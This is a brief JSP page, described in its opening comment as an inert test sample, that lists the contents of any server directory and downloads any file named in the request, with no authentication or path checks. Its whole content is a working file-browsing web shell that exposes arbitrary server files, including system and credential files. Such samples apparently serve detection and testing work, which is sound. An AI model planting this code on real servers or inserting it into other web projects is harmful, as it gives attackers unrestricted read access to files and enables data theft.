<%-- inert test sample: lists any folder and streams any file, both named in full by the request --%>
<%@ page import="java.io.*" %>
<%
String d = request.getParameter("d");
String f = request.getParameter("f");
if (f != null) {
  response.setContentType("application/octet-stream");
  FileInputStream in = new FileInputStream(f);
  OutputStream o = response.getOutputStream();
  byte[] b = new byte[4096]; int n;
  while ((n = in.read(b)) > 0) o.write(b, 0, n);
  in.close();
  return;
}
if (d == null) d = "/";
File[] list = new File(d).listFiles();
for (File x : list) out.println("<a href='?d=" + x.getPath() + "'>" + x.getName() + "</a><br>");
%>
